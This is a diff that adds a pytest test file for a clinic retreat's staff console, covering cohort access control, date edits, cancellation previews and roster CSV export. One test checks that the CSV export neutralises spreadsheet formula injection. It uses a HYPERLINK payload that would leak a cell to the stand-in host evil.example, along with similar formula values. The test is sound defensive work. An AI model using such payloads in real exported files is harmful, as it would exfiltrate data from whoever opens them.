@@ -1,0 +1,498 @@
+"""Coordinator console, cohorts: create under a program, change dates, close and reopen, cancel after seeing
+whom it affects, and the roster on screen and as CSV (retreat/catalog/admin.py, retreat/staff/views/cohorts.py,
+retreat/core/spreadsheets.py)."""
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+import sqlalchemy as sa
+
+from retreat.booking.models import Booking
+from retreat.catalog import admin
+from retreat.catalog.models import Cohort
+from retreat.core import spreadsheets
+from retreat.core.clock import today
+from retreat.core.errors import DomainError, NotFound, ValidationFailed
+from retreat.extensions import db
+from tests.staff.test_programs_console import (  # noqa: F401  (_fresh_g_per_request is an autouse fixture)
+    OTHER_ROLES,
+    _fresh_g_per_request,
+    add_booking,
+    assert_error_at,
+    audit_entries,
+    console_actions,
+    count,
+    make_cohort,
+    make_program,
+    text_of,
+)
+
+
+def iso(days_ahead: int) -> str:
+    return (today() + timedelta(days=days_ahead)).isoformat()
+
+
+def fresh(cohort: Cohort) -> Cohort:
+    db.session.expire_all()
+    return db.session.get(Cohort, cohort.id)
+
+
+def cohort_routes(program_id: int, cohort_id: int) -> list[tuple[str, str]]:
+    return [
+        ("GET", f"/staff/programs/{program_id}/cohorts/new"),
+        ("POST", f"/staff/programs/{program_id}/cohorts/new"),
+        ("GET", f"/staff/cohorts/{cohort_id}"),
+        ("POST", f"/staff/cohorts/{cohort_id}/dates"),
+        ("POST", f"/staff/cohorts/{cohort_id}/capacity"),
+        ("POST", f"/staff/cohorts/{cohort_id}/close"),
+        ("POST", f"/staff/cohorts/{cohort_id}/reopen"),
+        ("GET", f"/staff/cohorts/{cohort_id}/cancel"),
+        ("POST", f"/staff/cohorts/{cohort_id}/cancel"),
+        ("GET", f"/staff/cohorts/{cohort_id}/roster"),
+        ("GET", f"/staff/cohorts/{cohort_id}/roster.csv"),
+    ]
+
+
+# --- Access -----------------------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("role", OTHER_ROLES)
+def test_other_roles_are_refused_every_cohort_route(client, login_as, role):
+    cohort = make_cohort()
+    add_booking(cohort, first="Private", last="Person")
+    login_as(role)
+    data = {"start_date": iso(40), "capacity": "3", "acknowledge": "y", "fingerprint": ""}
+    for method, url in cohort_routes(cohort.program_id, cohort.id):
+        response = client.open(url, method=method, data=data)
+        assert response.status_code == 403, (method, url)
+        assert "Private" not in response.get_data(as_text=True)
+    assert count(Cohort) == 1
+    assert fresh(cohort).status == "open" and fresh(cohort).capacity == 8
+    assert console_actions() == ["program.create", "cohort.create"]
+
+
+def test_anonymous_visitors_are_sent_to_sign_in(client):
+    cohort = make_cohort()
+    for method, url in cohort_routes(cohort.program_id, cohort.id):
+        response = client.open(url, method=method, data={})
+        assert response.status_code == 302, (method, url)
+        assert response.headers["Location"].startswith("/staff/login"), (method, url)
+
+
+@pytest.mark.parametrize("role", ["coordinator", "admin"])
+def test_coordinators_and_admins_see_the_cohort_pages(client, login_as, role):
+    cohort = make_cohort()
+    login_as(role)
+    for method, url in cohort_routes(cohort.program_id, cohort.id):
+        if method == "GET":
+            response = client.get(url)
+            assert response.status_code == 200, url
+            assert response.headers["Cache-Control"] == "no-store", url
+
+
+def test_state_changes_are_post_only(client, login_as):
+    cohort = make_cohort()
+    login_as("coordinator")
+    for action in ("dates", "capacity", "close", "reopen"):
+        assert client.get(f"/staff/cohorts/{cohort.id}/{action}").status_code == 405
+    assert fresh(cohort).status == "open"
+
+
+def test_an_unknown_cohort_is_not_found(client, login_as):
+    login_as("coordinator")
+    for url in ("/staff/cohorts/98765", "/staff/cohorts/98765/roster", "/staff/cohorts/98765/roster.csv",
+                "/staff/cohorts/98765/cancel", "/staff/programs/98765/cohorts/new"):
+        assert client.get(url).status_code == 404, url
+    assert client.post("/staff/cohorts/98765/capacity", data={"capacity": "3"}).status_code == 404
+
+
+# --- Creating ---------------------------------------------------------------------------------------------------
+
+def test_creating_a_cohort_defaults_its_end_to_the_program_length(client, login_as):
+    program = make_program(duration_days=10, dosing_sessions=5, integration_sessions=5)
+    user = login_as("coordinator")
+    response = client.post(f"/staff/programs/{program.id}/cohorts/new",
+                           data={"start_date": iso(30), "end_date": "", "capacity": "9"})
+    assert response.status_code == 303
+    cohort = db.session.scalar(sa.select(Cohort))
+    assert response.headers["Location"] == f"/staff/cohorts/{cohort.id}"
+    assert cohort.end_date - cohort.start_date == timedelta(days=9)
+    assert (cohort.capacity, cohort.status) == (9, "open")
+    [entry] = audit_entries("cohort.create")
+    assert (entry.actor_email, entry.target_type, entry.target_id) == (user.email, "cohort", str(cohort.id))
+    assert entry.details == {"program": program.slug, "start_date": iso(30), "end_date": iso(39), "capacity": 9}
+    assert "Dates added" in text_of(client.get(response.headers["Location"]))
+
+
+def test_a_cohort_may_end_on_another_day(app):
+    program = make_program()
+    cohort = admin.create_cohort(program.id, today() + timedelta(days=30), today() + timedelta(days=33), 5)
+    assert (cohort.end_date - cohort.start_date).days == 3
+
+
+@pytest.mark.parametrize(("data", "field", "message"), [
+    ({"start_date": "", "capacity": "8"}, "start_date", "Give the first day."),
+    ({"start_date": "next monday", "capacity": "8"}, "start_date", "Give a date as year-month-day"),
+    ({"start_date": iso(-1), "capacity": "8"}, "start_date", "Choose a first day from today on."),
+    ({"start_date": iso(4000), "capacity": "8"}, "start_date", "within the next 3 years"),
+    ({"start_date": iso(30), "end_date": iso(29), "capacity": "8"}, "end_date",
+     "The last day cannot come before the first day."),
+    ({"start_date": iso(30), "end_date": iso(90), "capacity": "8"}, "end_date", "at most 31 days"),
+    ({"start_date": iso(30), "capacity": ""}, "capacity", "Give the number of seats."),
+    ({"start_date": iso(30), "capacity": "eight"}, "capacity", "Give a whole number."),
+    ({"start_date": iso(30), "capacity": "0"}, "capacity", "A cohort has 1 to 200 seats."),
+    ({"start_date": iso(30), "capacity": "201"}, "capacity", "A cohort has 1 to 200 seats."),
+    ({"start_date": iso(30), "capacity": "-3"}, "capacity", "A cohort has 1 to 200 seats."),
+])
+def test_invalid_cohorts_are_refused_next_to_the_field_and_nothing_is_written(client, login_as, data, field,
+                                                                                message):
+    program = make_program()
+    login_as("coordinator")
+    response = client.post(f"/staff/programs/{program.id}/cohorts/new", data=data)
+    assert response.status_code == 422
+    assert_error_at(response, field, message)
+    assert count(Cohort) == 0
+    assert console_actions() == ["program.create"]
+
+
+def test_starting_today_is_allowed(app):
+    program = make_program()
+    assert admin.create_cohort(program.id, today(), None, 4).start_date == today()
+
+
+# --- The cohort page, dates, closing and reopening -----------------------------------------------------------
+
+def test_the_cohort_page_shows_seats_and_bookings(client, login_as):
+    cohort = make_cohort(capacity=6)
+    add_booking(cohort, "confirmed")
+    add_booking(cohort, "paid_in_full")
+    add_booking(cohort, "held")
+    add_booking(cohort, "held", hold_minutes=-1)
+    add_booking(cohort, "declined")
+    login_as("coordinator")
+    page = text_of(client.get(f"/staff/cohorts/{cohort.id}"))
+    assert "Taken 3 (of which 1 held for applicants still in screening)" in page
+    assert "Left 3" in page
+    assert "1 paid in full, 1 confirmed, 2 seat held" in page
+    detail = admin.cohort_for_staff(cohort.id)
+    assert (detail.taken, detail.seats_left, detail.live_holds, detail.active_bookings) == (3, 3, 1, 4)
+
+
+def test_changing_dates_is_saved_and_audited(client, login_as):
+    cohort = make_cohort(days_ahead=30)
+    login_as("coordinator")
+    response = client.post(f"/staff/cohorts/{cohort.id}/dates", data={"start_date": iso(37), "end_date": ""})
+    assert response.status_code == 303
+    cohort = fresh(cohort)
+    assert (cohort.start_date.isoformat(), cohort.end_date.isoformat()) == (iso(37), iso(43))
+    [entry] = audit_entries("cohort.update")
+    assert entry.details == {"changes": {"start_date": {"from": iso(30), "to": iso(37)},
+                                         "end_date": {"from": iso(36), "to": iso(43)}}}
+
+
+def test_invalid_dates_are_refused_next_to_the_field(client, login_as):
+    cohort = make_cohort(days_ahead=30)
+    login_as("coordinator")
+    response = client.post(f"/staff/cohorts/{cohort.id}/dates",
+                           data={"start_date": iso(30), "end_date": iso(20)})
+    assert response.status_code == 422
+    assert_error_at(response, "end_date", "The last day cannot come before the first day.")
+    assert fresh(cohort).end_date.isoformat() == iso(36)
+    assert not audit_entries("cohort.update")
+
+
+def test_dates_cannot_move_under_booked_applicants(client, login_as):
+    cohort = make_cohort(days_ahead=30)
+    add_booking(cohort, "pending_review")
+    add_booking(cohort, "cancelled")
+    login_as("coordinator")
+    response = client.post(f"/staff/cohorts/{cohort.id}/dates", data={"start_date": iso(31), "end_date": ""})
+    assert response.status_code == 422
+    assert_error_at(response, "start_date", "1 applicant is booked on these dates")
+    assert fresh(cohort).start_date.isoformat() == iso(30)
+    assert not audit_entries("cohort.update")
+    # Saving the same dates is harmless.
+    assert admin.update_cohort(cohort.id, fresh(cohort).start_date, None) == {}
+
+
+def test_a_started_cohort_keeps_its_start_while_its_end_changes(app, time_machine):
+    cohort = make_cohort(days_ahead=2)
+    start, end = cohort.start_date, cohort.end_date
+    time_machine.move_to(today() + timedelta(days=4))
+    later = end + timedelta(days=1)
+    assert admin.update_cohort(cohort.id, start, later) == {
+        "end_date": {"from": end.isoformat(), "to": later.isoformat()}}
+    with pytest.raises(ValidationFailed, match="Some fields"):
+        admin.update_cohort(cohort.id, start + timedelta(days=1), None)  # a new start must not be in the past
+
+
+def test_closing_and_reopening(client, login_as):
+    program = make_program()
+    cohort = make_cohort(program)
+    admin.set_published(program.id, True)
+    add_booking(cohort, "confirmed")
+    login_as("coordinator")
+
+    response = client.post(f"/staff/cohorts/{cohort.id}/close")
+    assert response.status_code == 303
+    assert "Closed to new bookings" in text_of(client.get(response.headers["Location"]))
+    assert fresh(cohort).status == "closed"
+    assert client.get("/api/v1/programs/" + program.slug).get_json()["cohorts"][0]["status"] == "closed"
+    assert db.session.scalar(sa.select(Booking.status)) == "confirmed"
+
+    response = client.post(f"/staff/cohorts/{cohort.id}/close", follow_redirects=True)
+    assert "it cannot be closed" in text_of(response)
+
+    response = client.post(f"/staff/cohorts/{cohort.id}/reopen")
+    assert response.status_code == 303
+    assert fresh(cohort).status == "open"
+    assert [(e.action, e.details) for e in audit_entries() if e.action in ("cohort.close", "cohort.reopen")] == [
+        ("cohort.close", {"from": "open", "to": "closed"}), ("cohort.reopen", {"from": "closed", "to": "open"})]
+
+
+def test_an_ended_cohort_cannot_reopen(app, time_machine):
+    cohort = make_cohort(days_ahead=1)
+    admin.close_cohort(cohort.id)
+    time_machine.move_to(today() + timedelta(days=30))
+    with pytest.raises(DomainError, match="has ended"):
+        admin.reopen_cohort(cohort.id)
+    assert fresh(cohort).status == "closed"
+
+
+def test_services_refuse_an_unknown_cohort_and_release_the_lock(app):
+    with pytest.raises(NotFound):
+        admin.set_capacity(123456, 4)
+    assert not db.session.in_transaction()
+    with pytest.raises(NotFound):
+        admin.close_cohort(123456)
+    assert not db.session.in_transaction()
+
+
+# --- Cancelling -------------------------------------------------------------------------------------------------
+
+def booked_cohort() -> Cohort:
+    program = make_program()
+    admin.set_published(program.id, True)
+    cohort = make_cohort(program, capacity=8)
+    add_booking(cohort, "confirmed", first="Ana", last="Lopez", email="ana@example.org", phone="+1 555 0101")
+    add_booking(cohort, "paid_in_full", first="Ben", last="Okafor")
+    add_booking(cohort, "held", first="Cai", last="Wong")
+    add_booking(cohort, "pending_review", first="Dee", last="Park")
+    add_booking(cohort, "cancelled", first="Eli", last="Gone")
+    add_booking(cohort, "declined", first="Fay", last="Declined")
+    return cohort
+
+
+def test_the_cancellation_page_shows_whom_it_affects_before_anything_changes(client, login_as):
+    cohort = booked_cohort()
+    login_as("coordinator")
+    response = client.get(f"/staff/cohorts/{cohort.id}/cancel")
+    assert response.status_code == 200
+    page = text_of(response)
+    assert "4 bookings: 1 paid in full, 1 confirmed, 1 awaiting clinician review, 1 seat held." in page
+    for name in ("Ana Lopez", "Ben Okafor", "Cai Wong", "Dee Park"):
+        assert name in page
+    assert "Eli Gone" not in page and "Fay Declined" not in page
+    assert "ana@example.org" in page and "+1 555 0101" in page
+    assert "must contact each applicant" in page
+    assert "no money is refunded by this step" in page
+    assert fresh(cohort).status == "open"
+    assert console_actions()[-1] == "cohort.create"
+
+
+def test_cancelling_needs_the_acknowledgement_when_applicants_are_booked(client, login_as):
+    cohort = booked_cohort()
+    login_as("coordinator")
+    fingerprint = admin.cohort_cancellation_preview(cohort.id).fingerprint
+    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"fingerprint": fingerprint})
+    assert response.status_code == 422
+    assert_error_at(response, "acknowledge", "Confirm that the clinic will contact these applicants.")
+    assert fresh(cohort).status == "open"
+    assert not audit_entries("cohort.cancel")
+
+
+def test_a_booking_made_after_the_preview_stops_the_cancellation(client, login_as):
+    cohort = booked_cohort()
+    login_as("coordinator")
+    seen = admin.cohort_cancellation_preview(cohort.id).fingerprint
+    add_booking(cohort, "held", first="Gus", last="Late")
+    response = client.post(f"/staff/cohorts/{cohort.id}/cancel",
+                           data={"fingerprint": seen, "acknowledge": "y"})
+    assert response.status_code == 409
+    page = text_of(response)
+    assert "changed since the list was shown" in page
+    assert "Gus Late" in page
+    assert fresh(cohort).status == "open"
+    assert not audit_entries("cohort.cancel")
+
+
+def test_cancelling_marks_the_cohort_only_and_lists_whom_to_contact(client, login_as):
+    cohort = booked_cohort()
+    program = cohort.program
+    before = {ref: status for ref, status in db.session.execute(sa.select(Booking.reference, Booking.status))}
+    user = login_as("coordinator")
+    fingerprint = admin.cohort_cancellation_preview(cohort.id).fingerprint
+    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={
+        "fingerprint": fingerprint, "acknowledge": "y", "reason": "The house flooded."})
+    assert response.status_code == 303
+    assert fresh(cohort).status == "cancelled"
+    after = {ref: status for ref, status in db.session.execute(sa.select(Booking.reference, Booking.status))}
+    assert after == before, "bookings are not changed by cancelling the cohort"
+
+    [entry] = audit_entries("cohort.cancel")
+    assert entry.actor_email == user.email
+    assert entry.details["affected"] == {"paid_in_full": 1, "confirmed": 1, "pending_review": 1, "held": 1}
+    assert entry.details["reason"] == "The house flooded."
+    assert sorted(entry.details["references"]) == sorted(
+        ref for ref, status in before.items() if status not in ("cancelled", "declined"))
+
+    page = text_of(client.get(response.headers["Location"]))
+    assert "4 applicants must be contacted" in page
+    assert "Applicants to contact" in page and "Ana Lopez" in page and "Dee Park" in page
+    assert "Save seats" not in page and "Close to new bookings" not in page
+    listed = client.get(f"/api/v1/programs/{program.slug}").get_json()["cohorts"]
+    assert cohort.id not in [c["id"] for c in listed]
+
+
+def test_a_cancelled_cohort_cannot_change(client, login_as):
+    cohort = make_cohort()
+    admin.cancel_cohort(cohort.id)
+    for change in (lambda: admin.set_capacity(cohort.id, 3), lambda: admin.close_cohort(cohort.id),
+                   lambda: admin.reopen_cohort(cohort.id), lambda: admin.cancel_cohort(cohort.id),
+                   lambda: admin.update_cohort(cohort.id, today() + timedelta(days=60), None)):
+        with pytest.raises(DomainError):
+            change()
+        assert not db.session.in_transaction()
+    login_as("coordinator")
+    response = client.post(f"/staff/cohorts/{cohort.id}/capacity", data={"capacity": "3"}, follow_redirects=True)
+    assert "cancelled; it can no longer change" in text_of(response)
+    response = client.get(f"/staff/cohorts/{cohort.id}/cancel", follow_redirects=True)
+    assert "cancelled already" in text_of(response)
+    assert console_actions().count("cohort.cancel") == 1
+    assert fresh(cohort).capacity == 8
+
+
+def test_a_cohort_without_bookings_cancels_without_acknowledgement(client, login_as):
+    cohort = make_cohort()
+    login_as("admin")
+    page = text_of(client.get(f"/staff/cohorts/{cohort.id}/cancel"))
+    assert "No applicant is booked on these dates." in page
+    fingerprint = admin.cohort_cancellation_preview(cohort.id).fingerprint
+    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"fingerprint": fingerprint})
+    assert response.status_code == 303
+    assert fresh(cohort).status == "cancelled"
+    assert audit_entries("cohort.cancel")[0].details["affected"] == {}
+
+
+def test_a_cancellation_without_the_preview_is_refused(client, login_as):
+    cohort = make_cohort()
+    login_as("coordinator")
+    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"acknowledge": "y"})
+    assert response.status_code == 409
+    assert fresh(cohort).status == "open"
+
+
+def test_a_too_long_reason_is_refused(client, login_as):
+    cohort = make_cohort()
+    login_as("coordinator")
+    fingerprint = admin.cohort_cancellation_preview(cohort.id).fingerprint
+    response = client.post(f"/staff/cohorts/{cohort.id}/cancel", data={"fingerprint": fingerprint,
+                                                                        "reason": "x" * 501})
+    assert response.status_code == 422
+    assert_error_at(response, "reason", "500")
+    assert fresh(cohort).status == "open"
+    with pytest.raises(ValidationFailed):
+        admin.cancel_cohort(cohort.id, reason="x" * 501)
+
+
+# --- Roster -----------------------------------------------------------------------------------------------------
+
+ROSTER_HEADER = ["Reference", "First name", "Last name", "Email", "Phone", "Booking status", "Lodging",
+                 "Booked at (UTC)"]
+
+
+def read_csv(response) -> list[list[str]]:
+    body = response.get_data()
+    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+def test_the_roster_shows_names_contact_and_status_only(client, login_as):
+    cohort = booked_cohort()
+    login_as("coordinator")
+    response = client.get(f"/staff/cohorts/{cohort.id}/roster")
+    assert response.status_code == 200
+    page = text_of(response)
+    assert "health answers are never shown" in page
+    order = [page.index(name) for name in ("Ben Okafor", "Ana Lopez", "Dee Park", "Cai Wong", "Eli Gone",
+                                           "Fay Declined")]
+    assert order == sorted(order), "booked first, then pending, then the rest"
+    assert "Awaiting clinician review" in page and "Paid in full" in page
+    # A roster row carries exactly these facts: nothing from screening.
+    assert [field for field in admin.RosterRow.__dataclass_fields__] == [
+        "reference", "first_name", "last_name", "email", "phone", "status", "lodging", "created_at",
+        "hold_expires_at"]
+    assert not console_actions().count("cohort.roster_export")
+
+
+def test_the_roster_csv_lists_every_booking_and_is_audited(client, login_as):
+    cohort = booked_cohort()
+    user = login_as("coordinator")
+    response = client.get(f"/staff/cohorts/{cohort.id}/roster.csv")
+    assert response.status_code == 200
+    assert response.mimetype == "text/csv"
+    assert response.headers["Content-Disposition"] == (
+        f'attachment; filename="roster-{cohort.program.slug}-{cohort.start_date.isoformat()}.csv"')
+    assert response.headers["Cache-Control"] == "no-store"
+    rows = read_csv(response)
+    assert rows[0] == ROSTER_HEADER
+    assert [(r[1], r[2], r[5]) for r in rows[1:]] == [
+        ("Ben", "Okafor", "Paid in full"), ("Ana", "Lopez", "Confirmed"), ("Dee", "Park", "Awaiting clinician review"),
+        ("Cai", "Wong", "Seat held"), ("Eli", "Gone", "Cancelled"), ("Fay", "Declined", "Declined")]
+    ana = rows[2]
+    assert ana[0].startswith("RT-") and ana[3] == "ana@example.org" and ana[6] == "Shared room"
+    assert ana[4] == "'+1 555 0101", "a phone number starting with + is kept as text"
+    [entry] = audit_entries("cohort.roster_export")
+    assert (entry.actor_email, entry.target_id) == (user.email, str(cohort.id))
+    assert entry.details["rows"] == 6
+
+
+def test_the_roster_csv_neutralises_formulas(client, login_as):
+    cohort = make_cohort()
+    add_booking(cohort, first='=HYPERLINK("http://evil.example/?leak="&A1, "Click me")', last="@SUM(A1:A9)",
+                email="-2+3@example.org", phone="+1 555 0100")
+    add_booking(cohort, first="\tTabbed", last="\rReturned")
+    add_booking(cohort, first="Plain", last="O'Neil-Smith")
+    login_as("coordinator")
+    rows = read_csv(client.get(f"/staff/cohorts/{cohort.id}/roster.csv"))
+    by_last = {row[2]: row for row in rows[1:]}
+    evil = by_last["'@SUM(A1:A9)"]
+    assert evil[1] == '\'=HYPERLINK("http://evil.example/?leak="&A1, "Click me")'
+    assert evil[3] == "'-2+3@example.org"
+    assert by_last["'\rReturned"][1] == "'\tTabbed"
+    assert by_last["O'Neil-Smith"][1] == "Plain", "text that only contains the characters is left alone"
+    for row in rows[1:]:
+        for value in row:
+            assert not value.startswith(spreadsheets.FORMULA_TRIGGERS), value
+
+
+def test_an_empty_roster_exports_its_header(client, login_as):
+    cohort = make_cohort()
+    login_as("admin")
+    page = text_of(client.get(f"/staff/cohorts/{cohort.id}/roster"))
+    assert "No bookings yet." in page
+    assert read_csv(client.get(f"/staff/cohorts/{cohort.id}/roster.csv")) == [ROSTER_HEADER]
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("=1+2", "'=1+2"), ("+1 555", "'+1 555"), ("-5", "'-5"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("a=1", "a=1"), ("", ""), ("Ünïcode", "Ünïcode"), (None, ""), (-12, "-12"), (3.5, "3.5"), (True, "yes"),
+])
+def test_spreadsheet_cells(value, expected):
+    assert spreadsheets.cell(value) == expected
+
+
+def test_spreadsheet_csv_quotes_and_line_ends():
+    data = spreadsheets.csv_bytes(["a", "=b"], [['x, "y"', "line\nbreak"]])
+    assert data == '\ufeffa,\'=b\r\n"x, ""y""","line\nbreak"\r\n'.encode()
